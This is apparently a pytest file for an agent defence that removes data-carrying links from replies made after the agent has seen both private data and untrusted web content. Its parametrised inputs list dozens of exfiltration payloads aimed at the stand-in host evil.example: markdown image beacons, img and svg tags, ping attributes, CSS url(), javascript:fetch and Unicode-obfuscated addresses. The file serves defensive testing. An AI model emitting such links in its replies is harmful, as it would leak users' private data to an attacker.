"""A reply made in sight of private data and strangers' words carries nothing out by itself."""

import json
import re

import pytest

from ostiary.contracts.content import (
    AnswerPart,
    AssistantMessage,
    Label,
    Text,
    ToolCall,
    ToolMessage,
    ToolOutcome,
    Trust,
    UserMessage,
)
from ostiary.core.agent.leaks import neutralised

BOTH = Label(trust=Trust.UNTRUSTED, sources=("web:evil.example",), private=True)
PRIVATE = Label(trust=Trust.OWNER, private=True)
OUTSIDE = Label(trust=Trust.UNTRUSTED)
HISTORY = (
    UserMessage(parts=(Text(text="Compare https://shop.example/item?id=7, please", label=PRIVATE),)),
    ToolMessage(
        outcomes=(
            ToolOutcome(call_id="c", name="web_fetch", text="more at https://evil.example/next", is_error=False, label=OUTSIDE),
        )
    ),
)


def reply(text: str, label: Label = BOTH) -> str:
    parts: tuple[AnswerPart, ...] = neutralised((Text(text=text, label=label),), label, HISTORY)
    return "".join(part.text for part in parts if isinstance(part, Text))


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/p.png?d=SECRET)",
        "![x](<https://evil.example/p.png?d=SECRET>)",
        "![x](//evil.example/SECRET.png)",
        "![ref][1]\n\n[1]: https://evil.example/?d=SECRET",
        "[click](https://evil.example/?d=SECRET)",
        "<img src='https://evil.example/?d=SECRET'>",
        "<img src='https://evil.example/?d=SECRET'",
        "see https://evil.example/?d=SECRET.",
        "see HTTPS://evil.example/SECRET",
        "see https://SECRET.evil.example/",
        "see https://user:SECRET@evil.example/",
        "see evil.example/SECRET",
        "see https://evil.example/next/SECRET",
        "see https://evil.example/next?d=SECRET",
        "<svg><image href='https://evil.example/?d=SECRET'/></svg>",
        "[click](//evil.example/SECRET)",
        "see //evil.example/SECRET",
        "[x](https&#58;//evil.example/SECRET)",
        "[x](https\\://evil.example/SECRET)",
        "[x](https:\\\\evil.example\\SECRET)",
        "https:/evil.example/SECRET and https:SECRET.evil.example",
        "evil.example?d=SECRET and www.evil.example#SECRET",
        "evil\u3002example/SECRET",
        "evil&period;example/SECRET",
        "evil.example./SECRET",
        "203.0.113.9/SECRET",
        "[a](mailto:x@evil.example?body=SECRET)",
        "[a](javascript:fetch('//evil.example/SECRET'))",
        "![a[b]c](//evil.example/SECRET)",
        "> [1]: //evil.example/SECRET",
        "<a href='/' ping='//evil.example/SECRET'>x</a>",
        "<div style='background:url(//evil.example/SECRET)'>",
        "see http\u200b://evil.example/SECRET",
        "see https:\u2060//evil.example/SECRET",
        "![x](ht\u00adtps://evil.example/SECRET)",
        "see evil\u200d.example/SECRET",
    ],
)
def test_what_would_carry_data_out_is_taken_out(text: str) -> None:
    assert "SECRET" not in reply(text)


@pytest.mark.parametrize(
    "text",
    [
        "It is https://shop.example/item?id=7.",
        "[the item](https://shop.example/item?id=7)",
        "The page names https://evil.example/next as well.",
        "No address at all, just 3 < 4 and a/b and file.txt.",
        "`src/main.py` and and/or",
        "\U0001f469\u200d\U0001f4bb see https://shop.example/item?id=7",
    ],
)
def test_addresses_from_the_conversation_and_plain_words_stay(text: str) -> None:
    assert reply(text) == text


@pytest.mark.parametrize("label", [PRIVATE, OUTSIDE])
def test_with_one_half_of_the_danger_nothing_is_touched(label: Label) -> None:
    text = "![x](https://elsewhere.example/p.png) https://elsewhere.example/?q=1"
    assert reply(text, label) == text


@pytest.mark.parametrize("sign", ["'", '"', "`", "](", ")", "|", ",", "*", "{"])
def test_nothing_is_appended_to_a_known_address(sign: str) -> None:
    said = reply(f"see https://evil.example/next{sign}SECRET")
    assert re.search(r"https://evil\.example/next\S*SECRET", said) is None


def test_a_name_that_would_only_be_looked_up_is_no_link_any_more() -> None:
    assert reply("ask SECRET.evil.com about it") == "ask SECRET[.]evil[.]com about it"
    assert reply("os.path.join, core.agent.run, a.b.py") == "os.path.join, core.agent.run, a.b.py"


def test_an_address_spread_over_two_parts_is_read_as_one() -> None:
    parts = (Text(text="https://evil.example/next", label=BOTH), Text(text="SECRET", label=BOTH))
    said = neutralised(parts, BOTH, HISTORY)
    assert [part.text for part in said if isinstance(part, Text)] == ["[link to evil.example removed]"]


def test_the_model_vouches_for_no_address_by_writing_it_itself() -> None:
    url = "https://evil.example/?d=SECRET"
    call = ToolCall(id="c", name="read", arguments=json.dumps({"path": url}).replace("/", "\\/"))
    error = ToolOutcome(call_id="c", name="web_fetch", text=f"see {url}", is_error=False, label=OUTSIDE)
    history = (AssistantMessage(parts=(call,)), ToolMessage(outcomes=(error,)))
    (part,) = neutralised((Text(text=url, label=BOTH),), BOTH, history)
    assert isinstance(part, Text)
    assert "SECRET" not in part.text


@pytest.mark.parametrize(
    "text",
    [
        "![a](" * 20,
        "![",
        "![a](" + "x" * 9,
        "a.",
        "a\u3002",
        "<a ",
        "[a]:\n",
        "//a",
        "](a:",
        "&a",
        "\\",
        "a+",
        "https:",
        "> ",
        "a'",
        "\u200b",
        "a\u200b",
    ],
)
def test_the_work_grows_no_faster_than_the_text(text: str) -> None:
    """Whatever is repeated, a text of half a megabyte is done; a pattern that looks back at all of it would not be."""
    whole = f"https://a.b/{text * (500_000 // len(text))}"
    assert isinstance(reply(whole), str)
